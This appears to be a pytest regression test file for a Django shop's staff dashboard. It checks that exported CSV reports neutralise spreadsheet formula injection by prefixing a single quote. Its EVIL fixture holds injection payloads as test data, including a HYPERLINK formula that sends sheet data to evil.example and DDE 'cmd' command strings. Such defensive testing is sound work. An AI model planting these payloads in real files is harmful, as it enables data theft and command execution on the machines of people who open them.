"""Issue 12 (low): CSV exports ran spreadsheet formulas.

A product, producer, district or group name (or a decision number) starting
with = + - @, a tab or a carriage return became a formula when a province
admin opened the dashboard's CSV in a spreadsheet ("=HYPERLINK(...)" sends the
sheet's data away). Every text cell that could start one is now prefixed with
a single quote (the OWASP rule); numbers stay numbers, negative ones included.
"""
import csv
import io
import re

import pytest
from django.contrib.auth import get_user_model

from catalog.models import Certification, ProductVariant
from inventory import ledger
from orders import checkout as checkout_service
from shop.models import SalesPoint
from shop.spreadsheet import safe_cell

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EVIL = {
    "product": '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "producer": "@SUM(1+1)*cmd|' /C calc'!A0",
    "district": "+1+cmd|' /C calc'!A0",
    "group": "-2+3",
    "decision": "\t=1+1",
    "expired": "\r=2+2",
    "point": "=1+2",
}


@pytest.fixture
def shop(demo_shop, db):
    return {p.code: p for p in SalesPoint.objects.all()}


def csv_rows(response):
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def poisoned_sale(shop):
    """A confirmed order of a product whose names (and its producer's, district's, group's) are formulas."""
    for variant in ProductVariant.objects.filter(is_published=True).select_related("product").order_by("id"):
        try:
            checkout_service.sellable_variants([variant.pk])
        except Exception:  # noqa: BLE001 - not certified or held
            continue
        break
    ledger.stock_up(variant, shop["muong-ang"], 50)
    checkout = checkout_service.create_checkout(lines=[(variant.pk, 3)], email="khach@example.com")
    checkout_service.set_delivery(token=checkout.token, pickup_point_id=shop["muong-ang"].pk)
    order = checkout_service.complete_checkout(token=checkout.token, payment_method="PAY_AT_PICKUP").order
    product = variant.product
    # Renamed after the sale too: the reports read today's names.
    type(product).objects.filter(pk=product.pk).update(name=EVIL["product"], name_en=EVIL["product"])
    type(product.producer).objects.filter(pk=product.producer_id).update(name=EVIL["producer"])
    type(product.district).objects.filter(pk=product.district_id).update(name=EVIL["district"], name_en=EVIL["district"])
    group = product.group
    while group.parent_id:
        group = group.parent
    type(group).objects.filter(pk=group.pk).update(name=EVIL["group"], name_en=EVIL["group"])
    SalesPoint.objects.filter(pk=shop["muong-ang"].pk).update(name=EVIL["point"], name_en=EVIL["point"])
    for line in order.lines.all():
        type(line).objects.filter(pk=line.pk).update(product_name=EVIL["product"])
    return order


def assert_no_formula(rows):
    cells = [cell for row in rows for cell in row]
    assert cells
    # A negative number ("-1508" days) is a number to a spreadsheet, not a formula.
    started = [c for c in cells if c[:1] in TRIGGERS and not re.fullmatch(r"-\d+", c)]
    assert started == []
    return cells


@pytest.mark.parametrize("report", ["points", "districts", "groups", "top-products"])
def test_sales_csvs_never_start_a_cell_with_a_formula(client, shop, report):
    order = poisoned_sale(shop)
    client.force_login(get_user_model().objects.get(username="tinh@ocop-dienbien.example"))
    for prefix in ("", "/en"):
        cells = assert_no_formula(csv_rows(client.get(f"{prefix}/staff/dashboard/{report}.csv")))
        assert str(order.total_vnd) in cells  # the sums stay plain numbers
    neutralised = {"points": EVIL["point"], "districts": EVIL["district"], "groups": EVIL["group"], "top-products": EVIL["product"]}
    if report in neutralised:
        assert "'" + neutralised[report] in cells  # still readable, as text


def test_certificates_csv_neutralises_names_and_decisions_but_keeps_negative_days(client, shop):
    expiring = Certification.objects.filter(product__name="Rượu nếp 27").select_related("product").first()
    lapsed = Certification.objects.filter(product__name="Chẳm chéo M'Then").select_related("product").first()
    type(expiring.product).objects.filter(pk=expiring.product_id).update(name=EVIL["product"])
    Certification.objects.filter(pk=expiring.pk).update(decision_number=EVIL["decision"])
    type(lapsed.product).objects.filter(pk=lapsed.product_id).update(name=EVIL["expired"])
    client.force_login(get_user_model().objects.get(username="tinh@ocop-dienbien.example"))
    rows = csv_rows(client.get("/staff/dashboard/certificates.csv"))
    assert_no_formula(rows)
    assert any(r[1] == "'" + EVIL["product"] and r[4] == "'" + EVIL["decision"] for r in rows)
    assert any(r[1] == "'" + EVIL["expired"] for r in rows)
    days = [r[6] for r in rows[1:] if r[0] == "đã hết hạn"]
    assert days and all(d.startswith("-") and int(d) < 0 for d in days)  # numbers, not neutralised text


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+84 912", "'+84 912"), ("-x", "'-x"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\r=1", "'\r=1"), ("  =1+1", "'  =1+1"), ("Mật ong", "Mật ong"), ("", ""), ("1-2", "1-2"),
    (-5, -5), (0, 0), (195_000, 195_000), (None, None),
])
def test_one_rule_for_every_cell(value, expected):
    assert safe_cell(value) == expected
